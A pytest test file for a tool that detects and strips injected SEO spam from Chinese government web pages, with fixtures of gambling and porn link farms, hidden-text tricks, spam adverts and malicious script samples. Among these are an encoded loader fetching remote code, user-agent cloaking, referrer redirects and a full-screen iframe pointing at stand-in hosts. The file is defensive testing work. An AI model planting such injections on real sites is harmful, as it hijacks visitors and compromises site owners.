"""Every family of injected spam goes, and the article stays; look-alikes are left alone."""

from __future__ import annotations

import random

import pytest

from tests import farms
from tests.farms import ARTICLES, anchors, page, plain, taken

RNG = random.Random(7)
BETS = [
    "澳门新葡京官网",
    "百家乐技巧",
    "时时彩平台",
    "六合彩开奖",
    "皇冠现金网",
    "北京赛车pk10",
    "博彩公司",
    "老虎机游戏",
]
BAR = (
    "亚洲综合久久网,国产精品久久久久,欧美日韩一区二区,久久精品国产99,成人视频在线,中文字幕在线观看"
)
MATRIX = [
    p + s
    for p, s in zip(
        ("济南", "肇庆", "南宁", "江门", "湛江", "汕头", "惠州", "韶关"),
        ["搬家公司", "管道疏通"] * 4,
        strict=True,
    )
]
COUNTIES = [
    "彰武县",
    "汾西县",
    "同德县",
    "安溪县",
    "南丹县",
    "河曲县",
    "霍州市",
    "太仆寺旗",
    "新竹县",
    "金秀",
    "仁布县",
    "清水河县",
    "金湖县",
    "开鲁县",
    "吉水县",
    "屯门区",
]
SPLIT = "<script>document.write('<di'+'v sty'+'le=\"disp'+'lay:none\">');</script>%s<script>document.write('</d'+'iv>');</script>"


def farm(texts: list[str] = BETS, separator: str = " ") -> str:
    return anchors(texts, RNG, separator)


INJECTED: dict[str, tuple[str, tuple[str, ...]]] = {
    "county list behind </html>": (
        page(end="主站蜘蛛池模板：\n" + farm(COUNTIES, "|\n")),
        ("主站蜘蛛池模板", "彰武县", "屯门区"),
    ),
    "county list without marker in the footer": (
        page(footer="<p>" + farm(COUNTIES) + "</p>"),
        ("彰武县", "屯门区"),
    ),
    "county list on the ICP line": (page(footer=farm(COUNTIES)), ("彰武县", "屯门区")),
    "county list with links lost": (
        page(after="<div>主站蜘蛛池模板:\n" + "|\n".join(COUNTIES) + "|</div>"),
        ("蜘蛛池", "彰武县", "屯门区"),
    ),
    "county list on one domain's hosts": (
        page(
            after="<div>"
            + " ".join(f'<a href="http://h{i}x.kk8-t.com/">{c}</a>' for i, c in enumerate(COUNTIES))
            + "</div>"
        ),
        ("彰武县", "屯门区"),
    ),
    "place x service": (
        page(after=f"<div>热门城市：{farm(MATRIX)}</div>"),
        ("搬家公司", "管道疏通", "热门城市"),
    ),
    "porn bar in a leading h1": (
        page(
            top="<h1>国产精品久久久久_亚洲欧美日韩一区二区_久久精品国产99_成人视频免费观看_人妻在线</h1>"
        ),
        ("国产精品", "人妻"),
    ),
    "porn bar in a 1 px div": (
        page(top=f'<div style="width:1px;height:1px;overflow:hidden">{BAR}</div>'),
        ("国产精品",),
    ),
    "brand x ending before </body>": (
        page(
            end="<div>"
            + farm(
                [
                    b + e
                    for b in ("澳门威尼斯人", "新葡京", "永利皇宫")
                    for e in ("网址", "官网", "开户", "注册")
                ],
                "&nbsp;&nbsp;",
            )
            + "</div>"
        ),
        ("威尼斯人", "永利"),
    ),
    "betting brand in brackets": (
        page(
            extra=(
                "6月12日，【澳门新葡京】活动继续进行，【澳门新葡京】各村干部积极参与。",
                "本文关键词：澳门新葡京,新葡京官网,新葡京网址",
            ),
            top="<p>文章摘要：‘澳门新葡京’全新线上平台，‘澳门新葡京’为您服务。</p>",
        ),
        ("新葡京",),
    ),
    "display:none": (page(after=f'<div style="display:none">{farm()}</div>'), ("百家乐",)),
    "font-size 0": (
        page(after=f'<div style="font-size:0px;line-height:0">{farm()}</div>'),
        ("百家乐",),
    ),
    "same colour": (
        page(after=f'<div style="color:#fff;background:#ffffff">{farm()}</div>'),
        ("百家乐",),
    ),
    "noscript": (page(after=f"<noscript>{farm()}</noscript>"), ("百家乐",)),
    "hidden id in a style sheet": (
        page(
            head="<style>#zz9{position:absolute;top:-5000px}</style>",
            after=f'<div id="zz9">{farm()}</div>',
        ),
        ("百家乐",),
    ),
    "split document.write wrapper": (page(after=SPLIT % farm()), ("百家乐",)),
    "cover layer": (
        page(
            after=f'<div style="position:relative"><div style="position:absolute;z-index:1">{farm()}</div><div style="position:absolute;z-index:9;background:#fff;width:900px;height:60px"></div></div>'
        ),
        ("百家乐",),
    ),
    "hidden links without listed words": (
        page(
            after='<div style="display:none">'
            + farm(
                [
                    "东城建材",
                    "西门五金",
                    "南方电缆",
                    "北海渔具",
                    "中原机床",
                    "江口花木",
                    "山前石材",
                    "河东苗圃",
                ]
            )
            + "</div>"
        ),
        ("南方电缆",),
    ),
    "friend links mixed with spam": (
        page(
            after='<div>友情链接：<a href="http://www.hunan.gov.cn/">湖南省人民政府</a> <a href="http://www.yunxi-daily-example.com/">云溪日报</a> <a href="http://news.sina.com.cn/c/2019-1.shtml">澳门金沙网址</a> <a href="http://www.liuwan-example.com/">柳湾旅游网</a> <a href="http://www.163.com/a.html">新葡京官网</a></div>'
        ),
        ("金沙", "新葡京"),
    ),
    "advert in a paragraph": (
        page(
            extra=(
                "活动取得良好效果。代写论文毕业证办理联系QQ 12345678，诚信第一【速办网】二、下一步继续加强巡查，落实各项责任。",
            )
        ),
        ("代写论文", "速办网"),
    ),
    "guest-book advert": (page(extra=("网友：刷单日赚500，加微信 abc12345 立刻结算",)), ("刷单",)),
    "hijacked page's own spam, hidden": (
        page(
            after='<div style="display:none"><a href="/u/1.html">澳门新葡京官网</a> <a href="/u/2.html">百家乐技巧</a></div>'
        ),
        ("新葡京", "百家乐"),
    ),
    "spam names on government hosts": (
        page(
            footer='<a href="http://a.x.gov.cn/1">澳门新葡京官网</a> <a href="http://b.y.gov.cn/2">百家乐技巧</a> <a href="http://c.z.edu.cn/3">时时彩平台</a>'
        ),
        ("新葡京", "百家乐", "时时彩"),
    ),
    "county links on portals": (
        page(
            after="<div>"
            + " ".join(
                f'<a href="http://{h}/a/{i}.html">{c}</a>'
                for i, (c, h) in enumerate(
                    zip(
                        COUNTIES,
                        ["news.sina.com.cn", "www.163.com", "www.sohu.com", "news.ifeng.com"] * 4,
                        strict=True,
                    )
                )
            )
            + "</div>"
        ),
        ("彰武县", "屯门区"),
    ),
    "county links inside a paragraph": (
        page(
            inside="<p>巡查队伍已经全部到位。"
            + farm(COUNTIES)
            + " 下一步将加强宣传，确保群众平安度夏。</p>"
        ),
        ("彰武县", "屯门区"),
    ),
    "county links in the order of codes": (
        page(
            after="<div>"
            + farm(
                [
                    "晋州市",
                    "新乐市",
                    "路南区",
                    "路北区",
                    "古冶区",
                    "开平区",
                    "丰南区",
                    "丰润区",
                    "平定县",
                    "盂县",
                ]
            )
            + "</div>"
        ),
        ("晋州市", "盂县"),
    ),
    "keyword triple for the site's name": (
        page(
            title="防溺水宣传_新葡京官网_新葡京网站_新葡京网址",
            top="<p>欢迎访问新葡京官网_新葡京网站_新葡京网址</p>",
            footer="<p>版权所有：新葡京官网_新葡京网站_新葡京网址</p>",
        ),
        ("新葡京",),
    ),
    "random tokens and emoji": (
        page(
            extra=(
                "本报讯😀记者走访🎉河岸，群众👍反映良好，xKq7Pz2mVt9LwR4nB8sJ6hD3yG1f秩序井然。",
            )
        ),
        (),
    ),
    "Japanese block": (
        page(after="<div>ルイヴィトン 財布 コピー 激安 通販 送料無料 新品 未使用 楽天</div>"),
        ("激安",),
    ),
}


@pytest.mark.parametrize("name", INJECTED)
def test_injected_goes_and_the_article_stays(name: str) -> None:
    source, gone = INJECTED[name]
    text, verdict, edits = taken(source)
    assert [word for word in gone if word in text] == [], edits
    title, paragraphs = ARTICLES[0]
    assert [p for p in (title, *paragraphs, "湘ICP备00000000号", "网站地图") if p not in text] == []
    assert verdict == ("spam_page" if "emoji" in name else "infected")


FOUND: dict[str, tuple[str, str]] = {
    "brand for the institution's name": (
        page(
            title="吕氏贵宾会召开教学工作会",
            heading="吕氏贵宾会召开教学工作会",
            extra=(
                "吕氏贵宾会校长主持会议。",
                "会议指出，吕氏贵宾会全体教师要认真备课。",
                "此次是吕氏贵宾会第三次召开会议。",
            ),
        ),
        "spam_page",
    ),
    "emoji and bare pinyin": (
        page(extra=("昨天😎下午，群众(zhong)在河(🔥)边散步，看到🎯鱼群(qun)跃出水面。",)),
        "spam_page",
    ),
    "reflected search": (
        page(title="搜索结果", heading="“澳门新葡京官网”的搜索结果", extra=("没有找到相关内容。",)),
        "spam_page",
    ),
    "Japanese shop": (
        "<html lang='ja'><title>ルイヴィトン 激安</title><body><h1>ルイヴィトン 財布 激安 通販</h1><p>送料無料の新品ブランド財布を販売しています。価格は税込で、レディース、メンズともに在庫あり。正規品と同じコピー。</p></body></html>",
        "spam_page",
    ),
    "random ids": (
        page(
            top="".join(
                f'<{t} id="yyy80"></{t}>' for t in ("sup", "ins", "tt", "em", "dl", "samp") * 3
            )
        ),
        "mirror",
    ),
    "V_PATH": (
        page(head='<script>var V_PATH="/";window.onerror=function(){ return true; };</script>'),
        "mirror",
    ),
    "title of keywords": (page(title="新葡京官网_新葡京网站_新葡京网址"), "infected"),
    "comment with spam links": (page(after=f"<!-- {farm()} -->"), "infected"),
    "unescape loader": (
        page(
            head="<script>document.write(unescape('%3Cscript%20src%3Dhttps%3A//x9k-t.com/a.js%3E%3C/script%3E'))</script>"
        ),
        "infected",
    ),
    "title swap by user agent": (
        page(
            head="<script>if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu')==-1){document.title='云溪县人民政府'}</script>",
            title="&#26032;&#33889;&#20140;&#23448;&#32593;",
        ),
        "infected",
    ),
    "jump by referrer": (
        page(
            head="<script>var r=document.referrer;if(/baidu|sogou|so\\.com/.test(r)){location.href='https://www.k3k-t.com/'}</script>"
        ),
        "infected",
    ),
    "full-screen frame": (
        page(
            top='<iframe src="https://m.k3k-t.com/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"></iframe>'
        ),
        "infected",
    ),
    "refresh to another site": (
        page(head='<meta http-equiv="refresh" content="0;url=https://www.k3k-t.com/reg">'),
        "infected",
    ),
    "links written by script": (
        page(
            after="<script>document.write('<a href=\"http://www.k3k-t.com/\">澳门新葡京</a>')</script>"
        ),
        "infected",
    ),
}


@pytest.mark.parametrize("name", FOUND)
def test_a_page_is_called_what_it_is(name: str) -> None:
    source, expected = FOUND[name]
    _, verdict, edits = taken(source)
    assert verdict == expected, edits


def links(names: list[str], form: str) -> str:
    return " ".join(f'<a href="{form.format(i)}">{name}</a>' for i, name in enumerate(names))


CITIES = [
    "鞍山",
    "安庆",
    "安阳",
    "保定",
    "包头",
    "蚌埠",
    "成都",
    "长春",
    "大连",
    "大同",
    "佛山",
    "福州",
]
LEGITIMATE: dict[str, str] = {
    "county links inside the site": page(
        after=f"<div>区县频道：{links(COUNTIES, '/xq/{}.html')}</div>"
    ),
    "hidden city picker": page(
        top=f'<div style="display:none">切换城市：{links(CITIES, "http://www.yunxi-example.gov.cn/city/{}/")}</div>'
    ),
    "counties on government hosts": page(
        after=f"<div>友情链接 {links([c + '人民政府' for c in COUNTIES], 'http://www.c{}x.gov.cn/')}</div>"
    ),
    "friend links with portals and sponsors": page(
        after="<div>友情链接：<a href='http://www.people.com.cn'>人民网</a> <a href='http://www.xinhuanet.com'>新华网</a> <a href='http://www.yxbank-example.com'>云溪农商银行</a> <a href='http://www.yxly-example.com'>云溪旅游集团</a> <a href='http://www.sina.com.cn'>新浪网</a> <a href='http://www.baidu.com'>百度</a></div>"
    ),
    "police notice": page(
        extra=(
            "近日，县公安局破获一起开设赌场案，涉案网站名为“澳门新葡京”，提供百家乐、时时彩、六合彩、老虎机等赌博项目，涉案金额三百万元。",
            "警方提醒：网络赌博十赌九诈，请勿点击“澳门新葡京官网”等链接。",
        )
    ),
    "lottery draw": page(
        title="福利彩票开奖公告",
        heading="福利彩票开奖公告",
        extra=(
            "双色球 大乐透 七乐彩 时时彩",
            "双色球第2025065期开奖号码：01 05 12 18 23 31 + 07",
            "本期福利彩票全国销量为三亿元。",
        ),
    ),
    "Macao in Traditional characters": page(
        extra=(
            "澳門特區政府博彩監察協調局公佈，威尼斯人、新葡京、永利皇宮等幸運博彩經營場所本月收入上升。",
        )
    ),
    "pairs of counties in a table": page(
        title="东西部协作结对关系表",
        heading="东西部协作结对关系表",
        inside="<table>"
        + "".join(
            f"<tr><td>{a}</td><td>{b}</td></tr>"
            for a, b in zip(COUNTIES[::2], COUNTIES[1::2], strict=True)
        )
        + "</table>",
    ),
    "home-town associations": page(
        title="各地同乡会名单",
        heading="各地同乡会",
        inside="<p>" + links(COUNTIES, "/club/{}.html") + "</p>",
        extra=("欢迎新生加入各地同乡会。",),
    ),
    "personal names": page(
        inside="<p>"
        + " ".join(
            [
                "王建国",
                "李明",
                "张志强",
                "刘洋",
                "陈静",
                "杨帆",
                "赵敏",
                "黄海",
                "周兰",
                "吴江",
                "徐州生",
                "孙吉水",
                "马关民",
                "朱泾川",
            ]
        )
        + "</p>"
    ),
    "site map": page(
        after="<ul>"
        + "".join(
            f"<li><a href='/c{i}/'>{n}</a></li>"
            for i, n in enumerate(
                (
                    "领导之窗",
                    "机构职能",
                    "政策文件",
                    "通知公告",
                    "招考信息",
                    "财政预决算",
                    "统计数据",
                    "乡镇动态",
                )
            )
        )
        + "</ul>"
    ),
    "footer scripts": page(
        footer="<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/00/000/0000/00000000/CA000000000000000000000.js' type='text/javascript'%3E%3C/script%3E\"));</script><script>(function(){var bp=document.createElement('script');bp.src='https://zz.bdstatic.com/linksubmit/push.js';})();</script><div style='display:none'><script src='https://s9.cnzz.com/z_stat.php?id=1'></script></div>"
    ),
    "mobile site": page(
        head="<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href='http://m.yunxi-example.gov.cn/'}</script>"
    ),
    "share buttons": page(
        after="<div style='display:none'><a href='https://service.weibo.com/share/share.php'>微博</a><a href='https://connect.qq.com/'>QQ</a></div>"
    ),
    "clinic notice": page(
        extra=("县皮肤病医院开展白癜风患者义诊活动，医师现场为患者提供诊疗咨询。",)
    ),
    "security notice": page(
        extra=(
            "所谓“蜘蛛池模板：”是指批量生成垃圾页面的程序，各单位应当自查。",
            "常见暗链关键词有：时时彩、百家乐、六合彩。",
        )
    ),
    "ranking": page(
        title="百强县榜单",
        heading="百强县榜单",
        inside="".join(f"<p>{i}. {c}</p>" for i, c in enumerate(COUNTIES, 1)),
    ),
    "list announced by a colon": page(
        extra=("参加展览的县区有：",), inside="<p>" + "</p><p>".join(COUNTIES) + "</p>"
    ),
    "enrolment": page(
        inside="<pre>" + "\n".join(f"{c}|{20 + i}人|" for i, c in enumerate(COUNTIES)) + "</pre>"
    ),
}


@pytest.mark.parametrize("name", LEGITIMATE)
def test_look_alikes_are_left_alone(name: str) -> None:
    parsed = farms.dom.parse(LEGITIMATE[name])
    assert parsed is not None
    before = farms.words(parsed.root)
    text, verdict, edits = taken(LEGITIMATE[name])
    assert text == before
    assert verdict == "clean", edits


@pytest.mark.parametrize("name", LEGITIMATE)
def test_look_alikes_are_left_alone_without_their_links(name: str) -> None:
    parsed = farms.dom.parse(LEGITIMATE[name])
    assert parsed is not None
    before = farms.words(parsed.root)
    text, verdict, edits = plain(before)
    assert (text, verdict) == (before, "clean"), edits


@pytest.mark.parametrize("name", INJECTED)
def test_pruning_twice_changes_nothing(name: str) -> None:
    parsed = farms.dom.parse(INJECTED[name][0])
    assert parsed is not None
    farms.linkfarm.prune(farms.nodes.read(parsed.root), farms.URL)
    again = farms.linkfarm.prune(farms.nodes.read(parsed.root), farms.URL)
    assert [edit for edit in again if edit.action == "applied"] == []


@pytest.mark.parametrize("name", INJECTED)
def test_cleaning_text_twice_changes_nothing(name: str) -> None:
    parsed = farms.dom.parse(INJECTED[name][0])
    assert parsed is not None
    text, _, _ = plain(farms.words(parsed.root))
    assert plain(text)[0] == text
